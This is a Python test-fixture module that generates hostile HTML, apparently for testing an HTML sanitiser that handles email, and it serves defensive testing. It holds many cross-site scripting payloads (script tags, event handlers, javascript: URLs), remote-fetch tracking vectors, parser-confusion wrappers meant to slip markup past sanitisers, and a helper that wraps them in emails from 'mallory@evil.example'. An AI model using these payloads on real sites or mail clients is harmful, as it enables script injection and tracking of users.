"""Hostile HTML: the inputs of tests/fixtures/wash/hostile.txt, and combinations of what fetches or runs something with
what confuses a parser."""
import base64
import re

REPEATED_MAX = 300  # what is there 20,000 times is as hostile 300 times


def read_bytes(text):
    escapes = {"n": b"\n", "r": b"\r", "t": b"\t", "\\": b"\\"}
    return b"".join(bytes([int(found[2:], 16)]) if found[:2] == "\\x" else escapes[found[1]] if found[0] == "\\" else found.encode()
                    for found in re.findall(r"\\x[0-9a-f]{2}|\\.|[^\\]+", text))


def fixtures(path):
    with open(path, encoding="utf-8") as file:
        lines = [line.rstrip("\n") for line in file]
    inputs = []
    for line in lines:
        if line and line[0] not in "#[":
            parts = re.split(r"(\\\*\d+\{[^}]*\})", line)
            repeated = [re.fullmatch(r"\\\*(\d+)\{([^}]*)\}", part) for part in parts]
            inputs.append(b"".join(read_bytes(many[2]) * min(int(many[1]), REPEATED_MAX) if many else read_bytes(part)
                                   for part, many in zip(parts, repeated)))
    return inputs


# {u}: an address where somebody counts.  {d}: the same without its scheme.  {j}: a script.
FETCHES = """
<img src="{u}">
<img srcset="{u} 1x, {u}?2 2x" sizes=100vw>
<picture><source srcset="{u}"><img src="{u}?2"></picture>
<img src="//{d}" loading=eager fetchpriority=high>
<IMG SRC="&#104;ttp://{d}">
<img src="ht\ntp://{d}">
<div style="background:url({u})">x</div>
<div style="background-image:u\\72l('{u}')">x</div>
<div style="background:image-set('{u}' 1x)">x</div>
<div style="--a:url({u});background:var(--a)">x</div>
<div style="cursor:url({u}),auto;list-style:url({u}?2);border-image:url({u}?3);mask:url({u}?4)">x</div>
<style>@import "{u}";</style>
<style>@import url({u}) screen; p{{color:red}}</style>
<style>@font-face{{font-family:f;src:url({u})}} p{{font-family:f}}</style><p>x
<style>p::before{{content:url({u})}}</style><p>x
<style>input[value^="a"]{{background:url({u})}}</style><input value="abc">
<style>@media all{{@supports (color:red){{p{{background:url("{u}")}}}}}}</style><p>x
<link rel=stylesheet href="{u}">
<link rel="preload stylesheet" as=style href="{u}">
<link rel=prefetch href="{u}"><link rel=prerender href="{u}?2"><link rel=modulepreload href="{u}?3">
<link rel=icon href="{u}"><link rel=manifest href="{u}?2"><link rel=preload as=image href="{u}?3">
<iframe src="{u}"></iframe>
<iframe srcdoc="<img src='{u}'>"></iframe>
<object data="{u}"></object><embed src="{u}?2">
<object type=image/svg+xml data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>"></object>
<video src="{u}" autoplay poster="{u}?2"></video>
<audio autoplay><source src="{u}"></audio><video><track default src="{u}?2"></video>
<input type=image src="{u}"><table background="{u}?2"><tr><td background="{u}?3">x</table>
<body background="{u}">
<svg><image href="{u}"/><image xlink:href="{u}?2"/></svg>
<svg><use href="{u}#x"/><filter id=f><feImage href="{u}?2"/></filter><rect filter="url({u}?3#f)" width=9 height=9 /></svg>
<svg><style>@import "{u}";</style></svg>
<math><mglyph src="{u}"><maction actiontype=statusline xlink:href="{u}?2">x</maction></math>
<base href="http://{d}/"><img src="base.png"><a href="x">y</a>
<meta http-equiv=refresh content="0;url={u}">
<meta http-equiv="refresh" content="0; URL='{u}'">
<meta http-equiv=content-security-policy content="img-src *"><img src="{u}">
<form action="{u}" method=post><button autofocus>x</button></form>
<form id=f action="{u}"></form><button form=f formaction="{u}?2" formtarget=_top>x</button>
<svg><a xlink:href="{u}"><text y=20>x</text></a></svg>
<map name=m><area href="{u}" target=_top shape=default></map><img usemap=#m width=9 height=9>
<a href="/api/v1/state" target=_top>x</a><a href="../../api/v1/state" target=_blank>y</a>
""".strip().split("\n")

RUNS = """
<script>{j}</script>
<script src="{u}"></script>
<script type=module>import "{u}"</script>
<script src="data:text/javascript,{j}"></script>
<img src=x onerror="{j}">
<body onload="{j}" onpageshow="{j}">
<svg onload="{j}"></svg>
<svg><script>{j}</script></svg>
<svg><animate onbegin="{j}" attributeName=x dur=1s></svg>
<details open ontoggle="{j}">x</details>
<input autofocus onfocus="{j}">
<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{j}">x
<video><source onerror="{j}" src="x:"></video>
<iframe src="javascript:{j}"></iframe>
<iframe srcdoc="<script>{j}</script>"></iframe>
<object data="javascript:{j}"></object>
<iframe src="data:text/html,<script>{j}</script>"></iframe>
<a href="javascript:{j}">x</a>
<a href="java&Tab;script:{j}" target=_top>x</a>
<svg><a href="javascript:{j}"><text y=20>x</text></a></svg>
<form action="javascript:{j}"><button>x</button></form>
<form><button formaction="javascript:{j}">x</button></form>
<meta http-equiv=refresh content="0;url=javascript:{j}">
<math href="javascript:{j}">x</math>
<dialog open onclose="{j}"><form method=dialog><button>x</button></form></dialog>
<button popovertarget=p>x</button><div id=p popover onbeforetoggle="{j}">y</div>
""".strip().split("\n")

SHELLS = [
    "{x}", "<table><tr>{x}", "<svg><foreignObject>{x}</foreignObject></svg>", "<math><mtext><table><mglyph><style><!--</style>{x}",
    "<noscript><p title='</noscript>{x}'></noscript>", "<!--><p>{x}-->", "<svg></p><style><a id='</style>{x}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{x}", "<title><b title='</title>{x}'></title>", "<textarea></textarea/>{x}",
    "<select><option>{x}</select>", "<template>{x}</template>{x}", "<![CDATA[ ]]>{x}", "<style>/*</style>{x}*/", "<div>" * 260 + "{x}",
    "<a href=https://ok.example><b><p></a>{x}", "<body><body><html><frameset>{x}", "<p title=\"\x00\x0b{x}\">{x}", "<svg><desc><title>{x}</title></desc></svg>",
    "<xmp></xmp >{x}",
]


def made(host):
    """One after the other in shells that change, each twice: alone, and in a shell."""
    script = "alert(1);new(Image)().src='http://{}/ran'".format(host)
    inputs = []
    for i, template in enumerate(FETCHES + RUNS):
        address = f"http://{host}/{i}"
        text = template.format(u=address, d=address[7:], j=script)
        for shell in (SHELLS[0], SHELLS[1 + i % (len(SHELLS) - 1)]):
            inputs.append(shell.replace("{x}", text).encode())
    return inputs


def mail(number, html, user):
    body = base64.encodebytes(html).decode().replace("\n", "\r\n")
    return (f"From: Mallory <mallory@evil.example>\r\nTo: {user}\r\nSubject: {subject(number)}\r\nMessage-ID: <{number}@evil.example>\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}")


def subject(number):
    return f"hostile {number}"
